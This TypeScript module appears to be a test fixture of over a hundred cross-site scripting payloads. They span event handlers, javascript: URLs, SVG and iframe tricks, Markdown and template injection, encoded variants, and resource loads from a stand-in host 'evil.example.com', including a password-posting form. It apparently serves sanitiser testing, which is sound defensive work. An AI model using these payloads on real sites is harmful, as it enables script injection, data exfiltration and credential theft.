/** Somebody else's server; whatever asks it for something has been counted. */
const ELSEWHERE = 'https://evil.example.com';

/** Of a payload: what its text says wherever it is shown as text. */
export const MARK = /tripwire\(\d+\)/;

const number = (templates: readonly string[], first: number): string[] =>
  templates.map((each, index) =>
    each
      .replaceAll('$', `tripwire(${first + index})`)
      .replaceAll('~', `${ELSEWHERE}/${first + index}`),
  );

/** Whatever takes one of these for markup calls `tripwire` with its number, at once or when it is pressed. */
export const runs = number(
  [
    '<img src=x onerror=$>',
    '"><img src=x onerror=$>',
    `'><img src=x onerror='$'>`,
    '--><img src=x onerror=$>',
    '</title><img src=x onerror=$>',
    '</style><img src=x onerror=$>',
    '<IMG SRC=x ONERROR="&#116;&#114;ipwire;$">',
    '<img/src="x"/onerror=$>',
    '<img src=x\nonerror\n=\n$>',
    '<image src=x onerror=$>',
    '<img srcset=x onerror=$>',
    '<picture><source srcset=x><img onerror=$ src=y></picture>',
    '<svg><image href=x onerror=$></svg>',
    '<svg><animate onbegin=$ attributeName=x dur=1s></svg>',
    '<svg><set onbegin=$ attributeName=x></svg>',
    '<svg><a xlink:href="javascript:$"><text x=20 y=20>press</text></a></svg>',
    '<script>$</script>',
    '<scr<script></script>ipt></scr</script><script>$</script>',
    '<svg><script>$</script></svg>',
    '<script/x>$</script >',
    '<body onload=$>',
    '<svg onload=$>',
    '<svg/onload="$"//>',
    '<iframe srcdoc="<script>parent.$</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.$&gt;"></iframe>',
    '<iframe src="javascript:parent.$"></iframe>',
    '<iframe onload=$></iframe>',
    '<object data=x onerror=$></object>',
    '<video src=x onerror=$></video>',
    '<video><source src=x onerror=$></video>',
    '<audio src=x onerror=$></audio>',
    '<details open ontoggle=$><summary>x</summary></details>',
    '<input autofocus onfocus=$>',
    '<link rel=stylesheet href=x onerror=$>',
    '<style onload=$>x{}</style>',
    '<a href="javascript:$">press</a>',
    '<a href="JaVaScRiPt:$">press</a>',
    '<a href="java\tscript:$">press</a>',
    '<a href=" &#14; javascript:$">press</a>',
    '<a href="&#106;avascript&colon;$">press</a>',
    '<a href="javascript://x%0a$">press</a>',
    '<form action="javascript:$"><button>press</button></form>',
    '<form><button formaction="javascript:$">press</button></form>',
    '<button onclick=$>press</button>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=$&gt;"><img src=x onerror=$>',
    '<noscript><p title="</noscript><img src=x onerror=$>"></noscript><img src=x onerror=$>',
    '<template><img src=x onerror=$></template><img src=x onerror=$>',
    '<svg></p><style><a id="</style><img src=x onerror=$>">',
    '<table><td background="x"><img src=x onerror=$></td></table>',
    '<a id=x name=y><img src=x onerror=$></a>',
    '<select><option><img src=x onerror=$></select><img src=x onerror=$>',
    '<p\u2028onclick=x><img src=x onerror=$>',
  ],
  100,
);

/** Whatever takes one of these for more than text asks the other server, leaves the page, or looks otherwise. */
export const reaches = number(
  [
    '<img src="~.png" alt="$">',
    '<img srcset="~.png 1x" alt="$">',
    '<div style="background:url(~.png)">$</div>',
    '<div style="width:expression($);-moz-binding:url(~.xml)">$</div>',
    '<style>@import "~.css"; body{background:url(~.png)} /* $ */</style>',
    '<link rel=stylesheet href="~.css" title="$">',
    '<link rel=prefetch href="~.html" title="$">',
    '<meta http-equiv=refresh content="0;url=~.html" title="$">',
    '<base href="~/"><img src="pixel.png" alt="$">',
    '<form action="~" title="$"><input name=password><button>press</button></form>',
    '<iframe src="~.html" title="$"></iframe>',
    '<object data="~.html" title="$"></object>',
    '<video poster="~.png" src="~.mp4" autoplay title="$"></video>',
    '<audio src="~.mp3" autoplay title="$"></audio>',
    '<svg><image href="~.png"/><use href="~.svg#x"/><title>$</title></svg>',
    '<table background="~.png"><tr><td>$</td></tr></table>',
    '<script src="~.js">$</script>',
    '![$](~.png)',
    '![x $](~.png "$")',
    '<div style="position:fixed;inset:0;background:red;z-index:9999">$</div>',
    '<a href="~.html" ping="~.ping">$</a>',
  ],
  200,
);

/** Of other languages than HTML, of what is decoded or read once too often, and of what only older browsers run. */
const speaks = number(
  [
    '<img src="x` `<script>$</script>"` `onerror="$">',
    '<svg><a><animate attributeName=href values=javascript:$ /><text x=20 y=20>press</text></a></svg>',
    '<embed src="javascript:$" onload=$>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=$ src=x>">',
    '<b <img src=x onerror=$>',
    '[$](javascript:$)',
    '[$](<javascript:$>)',
    '[$](java&#115;cript:$)',
    '[$](data:text/html,<script>$</script>)',
    '[$](vbscript:$)',
    '[$][x]\n\n[x]: javascript:$',
    '<javascript:$>',
    '[$](https://example.com "onmouseover=$")',
    '[$](https://example.com/"onmouseover="$)',
    '`<img src=x onerror=$>`',
    '```"><img src=x onerror=$>\n</code><img src=x onerror=$>\n```',
    '| <img src=x onerror=$> |\n|---|\n| $ |',
    'https://example.com/"onmouseover=$//<img src=x onerror=$>',
    '[@<img src=x onerror=$>](mention://user/1/<img src=x onerror=$>)',
    '&lt;img src=x onerror=$&gt;',
    '&#60;img src=x onerror=$&#62;',
    '%3Cimg src=x onerror=$%3E',
    '\\u003cimg src=x onerror=$\\u003e',
    '+ADw-img src=x onerror=$+AD4-',
    '{{constructor.constructor("$")()}}',
    '{{<img src=x onerror=$>}}',
    '{% raw %}<img src=x onerror=$>{% endraw %}',
    '${$}',
    '<mark>$</mark>',
    'javascript:$',
    'javascript://example.com/%0a$',
    'data:text/html,<script>$</script>',
    '__proto__ constructor $',
    "';$;//",
    '\u202E<img src=x onerror=$>',
    '\uFEFF<img src=x onerror=$>',
  ],
  300,
);

export const payloads: readonly string[] = [...runs, ...reaches, ...speaks];
